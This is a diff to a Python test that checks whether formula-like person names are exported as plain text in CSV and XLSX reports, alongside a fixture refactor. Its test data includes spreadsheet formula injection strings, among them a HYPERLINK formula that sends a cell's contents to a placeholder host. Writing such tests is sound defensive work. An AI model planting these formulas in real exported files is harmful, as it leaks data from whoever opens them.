@@ -9,16 +9,15 @@ from openpyxl import load_workbook
 from caseflow.extensions import db
 from caseflow.reports.export import to_csv, to_xlsx
 from caseflow.reports.registry import indicator
-from tests.factories import Factory
-from tests.reports.helpers import at, decide, make_office, report_filter, wmo
+from tests.offices import Office
+from tests.reports.helpers import at, decide, report_filter, wmo
 
 NAMES = ('=HYPERLINK("http://example.invalid/?d="&A1,"klik")', "+31 6 1234", "-2+3", "@SUM(A1)")
 
 
 def test_formula_like_labels_are_text_in_csv_and_xlsx(
-    factory: Factory, travel: time_machine.Traveller
+    office: Office, travel: time_machine.Traveller
 ) -> None:
-    office = make_office(factory)
     at(travel, "2026-06-02 10:00")
     office.anna.full_name, office.bram.full_name = NAMES[0], NAMES[1]
     db.session.flush()
